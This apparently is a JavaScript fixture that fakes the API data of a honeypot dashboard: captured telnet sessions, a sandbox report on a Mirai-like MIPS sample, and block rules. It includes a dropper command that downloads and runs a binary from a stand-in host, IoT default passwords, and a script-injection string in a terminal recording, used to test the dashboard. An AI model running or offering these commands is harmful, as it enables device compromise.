// Made-up but lifelike answers of the hub, after docs/api.md. Addresses are documentation ranges; the same seed gives
// the same data. `world(now)` builds one state of a hub; the hostile corpus is in one session of its own.
import { HOSTILE } from '../hostile.mjs';

const HOUR = 3_600_000;
const STAGES = ['probe', 'login', 'exploit', 'infection'];

/** mulberry32: small, and the same everywhere. */
function random(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let value = Math.imul(state ^ (state >>> 15), 1 | state);
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value;
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
  };
}

export const time = (ms) => new Date(ms).toISOString().replace('Z', '123456Z');
const hex = (digits, value) => value.toString(16).padStart(digits, '0');

const PLACES = [
  ['CN', 4134, 'CHINANET-BACKBONE No.31,Jin-rong Street'], ['BR', 28573, 'Claro NXT Telecomunicacoes Ltda'], ['IN', 9829, 'National Internet Backbone'],
  ['VN', 45899, 'VNPT Corp'], ['US', 14061, 'DigitalOcean, LLC'], ['RU', 12389, 'Rostelecom'], ['NL', 202425, 'IP Volume inc'], ['JP', 4713, 'NTT Communications Corporation'],
  ['SG', 132203, 'Tencent Building, Kejizhongyi Avenue'], ['TR', 9121, 'Turk Telekom'], ['ID', 7713, 'PT Telekomunikasi Indonesia'], ['DE', 24940, 'Hetzner Online GmbH'],
];
const CREDENTIALS = [['root', 'xc3511'], ['root', 'vizxv'], ['admin', 'admin'], ['root', 'root'], ['support', 'support'], ['user', 'user'], ['root', '']];
const COMMANDS = ['enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI', 'cat /proc/mounts', 'cd /tmp; wget http://203.0.113.66/bins/mirai.mipsel -O .x; chmod 777 .x; ./.x telnet', 'echo -ne "\\x7f\\x45\\x4c\\x46" > .s'];

export const SAMPLE = 'c0ffee'.padEnd(64, '1');
export const HOSTILE_SESSION = 'bad000000001';
export const RECORDED_SESSION = '00000000a001';

export function world(now, { sessions: wanted = 240 } = {}) {
  const next = random(7);
  const pick = (list) => list[Math.floor(next() ** 1.6 * list.length)];
  const sessions = Array.from({ length: wanted }, (_, index) => {
    const [country, asn, as_name] = pick(PLACES);
    const stage = STAGES[[0, 0, 1, 1, 1, 2, 2, 3][Math.floor(next() * 8)]];
    const level = STAGES.indexOf(stage);
    const opened = now - 40_000 - Math.floor(next() ** 1.3 * 23.5 * HOUR);
    const front = level === 0 && next() < 0.6 ? 'http' : 'telnet';
    const isOpen = index === 3;
    const [user, password] = pick(CREDENTIALS);
    return {
      id: index === 0 ? RECORDED_SESSION : hex(12, 0x2000 + index),
      front, product: 'camera-mipsel', demo: index % 5 === 0,
      source: { ip: index % 9 === 8 ? `2001:db8::${hex(1, index + 1)}` : `198.51.100.${1 + (index * 37) % 254}`, port: 30000 + index },
      local: { ip: '127.0.0.1', port: front === 'http' ? 8080 : 2323 },
      place: index % 11 === 10 ? { country: null, special: 'loopback', asn: null, as_name: null } : { country, special: null, asn, as_name },
      stage: index === 0 ? 'infection' : stage, opened_at: time(opened), closed_at: isOpen ? null : time(opened + 42_000), duration_ms: isOpen ? null : Math.floor(next() * 90_000),
      reason: isOpen ? null : 'peer closed', interrupted: index === 5,
      events: 4 + level * 6, logins: level > 0 ? 1 + Math.floor(next() * 6) : 0, commands: level > 1 ? 3 + Math.floor(next() * 20) : 0, captures: level > 2 ? 1 + Math.floor(next() * 2) : 0,
      credential: level > 1 ? { user, password } : null, bytes_in: Math.floor(next() * 9000), bytes_out: Math.floor(next() * 60_000), recording_bytes: level > 0 ? 4096 : 0,
    };
  }).sort((a, b) => (a.opened_at < b.opened_at ? 1 : -1));
  const recorded = sessions.find((one) => one.id === RECORDED_SESSION);
  Object.assign(recorded, { front: 'telnet', recording_bytes: RECORDING.length, logins: 2, commands: 6, captures: 1, credential: { user: 'root', password: 'vizxv' } });
  const hostile = { ...recorded, id: HOSTILE_SESSION, opened_at: time(now - 35_000), demo: false, reason: HOSTILE[0].text, credential: { user: HOSTILE[1].text, password: HOSTILE[7].text } };
  sessions.unshift(hostile);

  const events = [];
  let sequence = 0;
  const add = (ms, session, demo, kind, fields) => {
    sequence += 1;
    const event = { id: hex(12, Math.floor(ms)) + hex(12, sequence) + hex(8, sequence), at: time(ms), product: 'camera-mipsel', ...(session && { session }), ...(demo && { demo: true }), kind, ...fields };
    events.push(event);
    return event;
  };
  for (const session of sessions.slice(1)) {
    const at = Date.parse(session.opened_at.slice(0, 23) + 'Z');
    add(at, session.id, session.demo, 'session_opened', { front: session.front, source: session.source, local: session.local });
    if (session.front === 'http') add(at + 300, session.id, session.demo, 'http_request', { method: 'GET', target: '/cgi-bin/login.cgi', host: 'camera', user_agent: 'Mozilla/5.0', body: '', status: 200 });
    const level = STAGES.indexOf(session.stage);
    if (level > 0) for (let i = 0; i < session.logins; i += 1) {
      const [user, password] = CREDENTIALS[i % CREDENTIALS.length];
      add(at + 900 + i * 400, session.id, session.demo, 'login_attempt', { user, password, success: level > 1 && i === session.logins - 1 });
    }
    if (level > 1) for (let i = 0; i < Math.min(session.commands, COMMANDS.length); i += 1) add(at + 4000 + i * 700, session.id, session.demo, 'command', { line: COMMANDS[i] });
    if (level > 2) {
      add(at + 12_000, session.id, session.demo, 'download_requested', { url: 'http://203.0.113.66/bins/mirai.mipsel', outcome: 'refused', reason: 'fetching is off' });
      add(at + 12_500, session.id, session.demo, 'file_captured', { artifact: { sha256: SAMPLE, size: 88_120, name: '/tmp/.x', mode: 0o777, url: 'http://203.0.113.66/bins/mirai.mipsel', method: 'http' } });
    }
    if (session.closed_at) add(at + 15_000, session.id, session.demo, 'session_closed', { duration_ms: session.duration_ms, reason: 'peer closed', bytes_in: session.bytes_in, bytes_out: session.bytes_out, stage: session.stage });
  }
  HOSTILE.forEach(({ text }, index) => {
    add(now - 34_000 + index * 20, HOSTILE_SESSION, false, 'command', { line: text });
    add(now - 33_000 + index * 20, HOSTILE_SESSION, false, 'login_attempt', { user: text, password: text, success: false });
  });

  const classification = {
    format: { value: 'elf', evidence: 'magic 7f 45 4c 46', confidence: 100 }, os: { value: 'linux', evidence: 'EI_OSABI 0, calls of Linux o32', confidence: 95 },
    cpu: { value: 'mips', evidence: 'e_machine 8, EI_DATA 1', confidence: 100 }, level: { value: 'mips32r1', evidence: 'e_flags 0x50001007', confidence: 90 },
    endianness: { value: 'little', evidence: 'EI_DATA 1, instructions decode', confidence: 100 }, bits: { value: '32', evidence: 'EI_CLASS 1', confidence: 100 },
    abi: { value: 'o32', evidence: 'e_flags 0x1000', confidence: 95 }, libc: { value: 'uclibc', evidence: 'string __uClibc_main', confidence: 70 },
    linking: { value: 'static', evidence: 'no PT_INTERP', confidence: 100 }, packing: { value: 'none', evidence: 'entropy 5.9, no UPX! mark', confidence: 80 },
    symbols: { value: 'stripped', evidence: 'no .symtab', confidence: 100 }, runnable: true, notes: ['section table lies'], urls: ['http://203.0.113.66/bins/', HOSTILE[1].text],
  };
  const process = (pid, parent, comm, path, args, start, end, status) => ({ pid, parent, path, comm, arguments: args, started_ns: start * 1e6, ended_ns: end === null ? null : end * 1e6, status });
  const report = {
    sha256: SAMPLE, class: classification, end: { how: 'time_up' }, virtual_ns: 60e9, instructions: 18_234_551,
    syscalls: { open: 12, read: 340, write: 88, socket: 31, connect: 30, fork: 3, unlink: 1, prctl: 2, nanosleep: 61 }, unsupported: { io_uring_setup: 1 },
    processes: [
      process(2, 0, 'x', '/tmp/.x', ['./.x', 'telnet'], 0, 12, 0), process(3, 2, 'kworker/u8:1', '/tmp/.x', ['./.x', 'telnet'], 8, null, null),
      process(4, 3, 'kworker/u8:1', '/tmp/.x', ['./.x'], 9, null, null), process(5, 3, 'sh', '/bin/sh', ['sh', '-c', HOSTILE[7].text], 100, 130, 1), process(6, 5, 'iptables', '/bin/iptables', ['iptables', '-F'], 110, 120, 127),
    ],
    files: [
      { path: '/proc/self/exe', operation: 'read', pid: 2, count: 1, succeeded: true }, { path: '/tmp/.x', operation: 'removed', pid: 2, count: 1, succeeded: true },
      { path: '/dev/watchdog', operation: 'written', pid: 3, count: 4, succeeded: true }, { path: HOSTILE[7].text, operation: 'written', pid: 5, count: 1, succeeded: false },
    ],
    contacts: [
      { remote: { ip: '203.0.113.9', port: 23 }, transport: 'tcp', application: 'telnet', name: null, url: null, bytes_out: 120, bytes_in: 0, first_bytes: { hex: 'fffb01fffb03', omitted_bytes: 0 }, count: 24, first_ns: 2.1e9 },
      { remote: { ip: '203.0.113.66', port: 48101 }, transport: 'tcp', application: 'unknown', name: 'cnc.example.net', url: null, bytes_out: 14, bytes_in: 2, first_bytes: '\u0000\u0000\u0000\u0001', count: 6, first_ns: 0.4e9 },
      { remote: { ip: '2001:db8::53', port: 53 }, transport: 'udp', application: 'dns', name: null, url: null, bytes_out: 33, bytes_in: 49, first_bytes: '', count: 1, first_ns: 0.3e9 },
    ],
    names: ['cnc.example.net', 'report.example.net'], dropped: [],
    behaviours: [
      { technique: 'T1070.004', name: 'Indicator Removal: File Deletion', evidence: 'pid 2 unlinked its own executable /tmp/.x' },
      { technique: 'T1036.005', name: 'Masquerading: Match Legitimate Name or Location', evidence: 'comm became kworker/u8:1' },
      { technique: 'T1046', name: 'Network Service Discovery', evidence: '24 addresses on port 23 in 58 s' },
      { technique: 'T1071', name: 'Application Layer Protocol', evidence: '14 bytes to cnc.example.net, port 48101' },
    ],
    output: 'listening tun0\n', trace: Array.from({ length: 640 }, (_, index) => ({ at_ns: index * 2.3e6, pid: 2 + (index % 4), line: index === 5 ? `write(1, "${HOSTILE[0].text}", 33) = 33` : index % 7 === 0 ? 'open("/proc/net/tcp", O_RDONLY) = 4' : `connect(${3 + (index % 9)}, {sa_family=AF_INET, sin_port=htons(23), sin_addr=inet_addr("203.0.113.${index % 250}")}, 16) = -1 EINPROGRESS` })), trace_omitted: 1204,
  };
  const evidence = (kind, note) => ({ kind, events: [], artifact: SAMPLE, at: time(now - 2 * HOUR), note });
  const indicator = (kind, value, state, score, rule, more = {}) => ({ kind, value, state, score, first_seen: time(now - 3 * HOUR), last_seen: time(now - HOUR), updated_at: time(now - HOUR), expires_at: kind === 'sha256' ? null : time(now + 70 * HOUR), evidence: [evidence('payload_source', 'a session fetched /tmp/.x from it'), evidence('sandbox_contact', 'the sample spoke to it')], guard_reason: null, demo: false, rule, ...more });
  const indicators = [
    indicator('url', 'http://203.0.113.66/bins/mirai.mipsel', 'active', 88, 9_000_001), indicator('service', 'tcp/203.0.113.66:48101', 'active', 82, 9_000_002),
    indicator('domain', 'cnc.example.net', 'active', 70, 9_000_003, { demo: true }), indicator('address', '192.0.2.53', 'guarded', 74, null, { guard_reason: 'the resolver of this network is never blocked' }), indicator('sha256', SAMPLE, 'active', 90, null),
  ];
  const rules = indicators.filter((one) => one.rule).map((one, index) => ({
    sid: one.rule, text: `drop http $HOME_NET any -> any any (msg:"OTORI ${one.kind}"; content:"${one.value}"; sid:${one.rule}; rev:1;)`, indicator_kind: one.kind, indicator: one.value, demo: one.demo,
    captured_at: time(now - 2 * HOUR), made_at: time(now - 2 * HOUR + 180 + index * 40), expires_at: one.expires_at, enforced: index < 2 ? [{ guard: 'gateway-1', at: time(now - 2 * HOUR + 260) }] : [], first_refusal_at: index === 0 ? time(now - HOUR) : null, refusals: index === 0 ? 14 : 0,
  }));
  const verdicts = Array.from({ length: 16 }, (_, index) => ({
    event: hex(32, 0x900000 + index), at: time(now - 60_000 - index * 300_000), demo: index % 4 === 0,
    verdict: { action: index % 5 === 4 ? 'alert' : index % 3 === 0 ? 'reject' : 'drop', sid: 9_000_001 + (index % 3), message: 'OTORI url', source: { ip: '192.0.2.20', port: 40_000 + index }, destination: { ip: '203.0.113.66', port: 80 }, transport: 'tcp', application: 'http', subject: 'http://203.0.113.66/bins/mirai.mipsel', device: '192.0.2.20', guard: 'gateway-1', rule_made_at: time(now - 2 * HOUR), repeated: index % 4 },
  }));
  const first = sessions.filter((one) => one.captures > 0);
  const samples = [
    { sha256: SAMPLE, size: 88_120, name: '/tmp/.x', method: 'http', demo: false, first_seen: time(now - 2 * HOUR), last_seen: time(now - HOUR), captures: first.length, state: 'detonated', format: 'elf', os: 'linux', cpu: 'mips', endianness: 'little', end: 'time_up', contacts: 3, techniques: report.behaviours.map((one) => one.technique) },
    { sha256: 'abad1dea'.padEnd(64, '2'), size: 412, name: '/tmp/bins.sh', method: 'written', demo: true, first_seen: time(now - 5 * HOUR), last_seen: time(now - 5 * HOUR), captures: 2, state: 'classified', format: 'shell-script', os: 'linux', cpu: null, endianness: null, end: null, contacts: 0, techniques: [] },
    { sha256: 'feedface'.padEnd(64, '3'), size: 1204, name: HOSTILE[7].text, method: 'upload', demo: false, first_seen: time(now - 9 * HOUR), last_seen: time(now - 9 * HOUR), captures: 1, state: 'waiting', format: null, os: null, cpu: null, endianness: null, end: null, contacts: 0, techniques: [] },
  ];
  const captures = first.slice(0, 20).map((one, index) => ({ event: hex(32, index + 77), at: one.opened_at, session: one.id, product: one.product, demo: one.demo, sha256: SAMPLE, size: 88_120, name: '/tmp/.x', url: 'http://203.0.113.66/bins/mirai.mipsel', mode: 0o777, method: 'http' }));
  events.sort((a, b) => (a.id < b.id ? 1 : -1));
  return { now, sessions, events, classification, report, indicators, rules, verdicts, samples, captures };
}

const spread = (count, median, p95, max) => ({ count, median, p95, max });
const RANGE_MS = { '1h': HOUR, '24h': 24 * HOUR, '7d': 168 * HOUR, '30d': 720 * HOUR, all: null };

const demoFits = (demo) => (one) => demo === 'include' || (demo === 'only') === Boolean(one.demo);
const window = (state, query) => {
  const range = query.get('range') ?? '24h';
  const length = RANGE_MS[range];
  return { range, demo: query.get('demo') ?? 'include', since: length === null ? null : time(state.now - length), until: time(state.now), bucket_seconds: { '1h': 60, '24h': 1800, '7d': 10_800, '30d': 86_400, all: 86_400 }[range] };
};
const inWindow = (state, query) => {
  const length = RANGE_MS[query.get('range') ?? '24h'];
  return (at) => length === null || Date.parse(at.slice(0, 23) + 'Z') >= state.now - length;
};

export function overview(state, query) {
  const within = inWindow(state, query);
  const sessions = state.sessions.filter(demoFits(query.get('demo') ?? 'include')).filter((one) => within(one.opened_at));
  const all = (query.get('range') ?? '24h') === 'all';
  const compared = (now, factor) => ({ now, before: all ? null : Math.round(now * factor) });
  const w = window(state, query);
  const count = { '1h': 60, '24h': 48, '7d': 56, '30d': 30, all: 2 }[w.range];
  const start = Math.floor((state.now / 1000 - (count - 1) * w.bucket_seconds) / w.bucket_seconds) * w.bucket_seconds;
  const series = { at: Array.from({ length: count }, (_, index) => time((start + index * w.bucket_seconds) * 1000)) };
  for (const stage of STAGES) series[stage] = series.at.map(() => 0);
  for (const one of sessions) {
    const index = Math.floor((Date.parse(one.opened_at.slice(0, 23) + 'Z') / 1000 - start) / w.bucket_seconds);
    if (index >= 0 && index < count) series[one.stage][index] += 1;
  }
  const tally = (key, make) => {
    const counts = new Map();
    for (const one of sessions) {
      const value = key(one);
      if (value !== null) counts.set(value, (counts.get(value) ?? 0) + 1);
    }
    return [...counts].sort((a, b) => b[1] - a[1]).slice(0, 10).map(([value, n]) => make(value, n));
  };
  const some = sessions.length > 0;
  const samples = some ? state.samples.filter((one) => within(one.first_seen)) : [];
  return {
    ...w, sessions: compared(sessions.length, 0.8), series,
    stages: Object.fromEntries(STAGES.map((stage, index) => [stage, compared(sessions.filter((one) => one.stage === stage).length, [0.9, 1.1, 0.7, 0.5][index])])),
    events: compared(some ? state.events.length : 0, 0.9),
    countries: tally((one) => one.place.special ?? one.place.country, (value, n) => (value.length === 2 ? { country: value, special: null, count: n } : { country: null, special: value, count: n })),
    networks: tally((one) => one.place.asn, (asn, n) => ({ asn, name: PLACES.find((place) => place[1] === asn)[2], count: n })),
    products: tally((one) => one.product, (product, n) => ({ product, count: n })),
    credentials: some ? [...CREDENTIALS.map(([user, password], index) => ({ user, password, count: 90 - index * 11, accepted: index === 1 ? 12 : 0 })), { user: HOSTILE[0].text, password: HOSTILE[7].text, count: 2, accepted: 0 }] : [],
    commands: some ? [...COMMANDS.map((line, index) => ({ line, count: 80 - index * 9 })), { line: HOSTILE[11].text, count: 1 }] : [],
    new_samples: compared(samples.length, 0.4), samples, active_blocks: state.rules.length, refused: compared(some ? 13 : 0, 0.5), capture_to_block_ms: some && state.rules.length ? spread(3, 260, 410, 428) : spread(0, null, null, null),
    last_event_at: state.events[0]?.at ?? null,
  };
}

export function geo(state, query) {
  const within = inWindow(state, query);
  const sessions = state.sessions.filter(demoFits(query.get('demo') ?? 'include')).filter((one) => within(one.opened_at));
  const countries = new Map();
  const special = new Map();
  for (const { place, stage } of sessions) {
    if (place.special) special.set(place.special, (special.get(place.special) ?? 0) + 1);
    else {
      const row = countries.get(place.country) ?? { country: place.country, count: 0, stages: { probe: 0, login: 0, exploit: 0, infection: 0 } };
      row.count += 1;
      row.stages[stage] += 1;
      countries.set(place.country, row);
    }
  }
  return { ...window(state, query), countries: [...countries.values()].sort((a, b) => b.count - a.count), special: [...special].map(([name, count]) => ({ special: name, count })), unknown: 0 };
}

export function network(state, query) {
  const fits = demoFits(query.get('demo') ?? 'include');
  const measured = state.rules.length > 0;
  const none = spread(0, null, null, null);
  return {
    ...window(state, query),
    guards: measured ? [{ guard: 'gateway-1', rules: 2, last_enforced_at: time(state.now - HOUR), last_verdict_at: time(state.now - 60_000), refused: 13, alerts: 3 }] : [],
    rules: state.rules.filter(fits), rules_total: state.rules.filter(fits).length, verdicts: state.verdicts.filter(fits),
    devices: measured ? [{ device: '192.0.2.20', alerts: 3, refused: 13, last_at: time(state.now - 60_000) }] : [],
    latency: measured ? { capture_to_rule_ms: spread(3, 180, 240, 260), rule_to_enforced_ms: spread(2, 62, 80, 80), capture_to_enforced_ms: spread(2, 260, 410, 428), capture_to_refusal_ms: spread(1, 3_600_000, 3_600_000, 3_600_000) } : { capture_to_rule_ms: none, rule_to_enforced_ms: none, capture_to_enforced_ms: none, capture_to_refusal_ms: none },
  };
}

export function system(state, { fronts = true } = {}) {
  return {
    version: '0.1.0', now: time(state.now), started_at: time(state.now - 26 * HOUR), uptime_seconds: 26 * 3600, ready: true,
    store: {
      inbox_events: state.events.length, sealed_events: 0, segments: 0, database_bytes: 1_482_752, segment_bytes: 0, artifacts: state.samples.length, artifact_bytes: 89_736, recordings: 40, recording_bytes: 180_000,
      oldest_event_at: state.events.at(-1)?.at ?? null, last_event_at: state.events[0]?.at ?? null, retention: { inbox_days: 7, event_days: 365, artifact_days: null },
    },
    recovery: { events: 1893, interrupted_sessions: 1, requeued_artifacts: 0, at: time(state.now - 26 * HOUR) },
    queues: [{ name: 'intake', depth: 3, capacity: 4096 }, { name: 'lab', depth: 1, capacity: 64 }],
    fronts: fronts ? [{ front: 'telnet', product: 'camera-mipsel', address: '127.0.0.1:2323' }, { front: 'http', product: 'camera-mipsel', address: '127.0.0.1:8080' }] : [],
    streams: { open: 1, capacity: 64 }, places: { countries: true, networks: true },
    credits: [
      { name: 'IP Location DB, ASN', licence: 'CC BY 4.0', url: 'https://github.com/sapics/ip-location-db', notice: 'RouteViews, DB-IP and NRO data' },
      { name: 'IP Location DB, country', licence: 'CC0 1.0', url: 'https://github.com/sapics/ip-location-db', notice: '' },
    ],
  };
}

/** A recording with colours, a redrawn line, cursor movement, markup, and a line cut in the middle by a crash. */
export const RECORDING = [
  { version: 2, width: 80, height: 24, timestamp: 1_700_000_000 },
  [0.1, 'o', 'camera login: '], [0.8, 'i', 'root\r'], [0.81, 'o', 'root\r\nPassword: '], [1.6, 'i', 'vizxv\r'], [1.7, 'o', '\r\n\r\nBusyBox v1.35.0 built-in shell (ash)\r\n\r\n\u001b[1;32m~ #\u001b[0m '],
  [3.0, 'o', 'cat /proc/mounts\r\nrootfs / rootfs rw 0 0\r\nproc /proc proc rw 0 0\r\n~ # '], [30.0, 'o', 'echo "<script>window.__pwned=1</script>"\r\n<script>window.__pwned=1</script>\r\n~ # '],
  [31.0, 'o', 'progress 10%\rprogress 99%\r\n\u001b[31mred\u001b[0m \u001b[7minverse\u001b[0m カメラ \u202e\r\n'], [32.0, 'o', '\u001b[2K\u001b]0;owned title\u0007~ # cd /tmp; wget http://203.0.113.66/bins/mirai.mipsel -O .x\r\nwget: server returned error: HTTP/1.1 403\r\n~ # '], [34.5, 'o', 'exit\r\n'],
].map((line) => JSON.stringify(line)).join('\n') + '\n[35.0,"o","cut he';
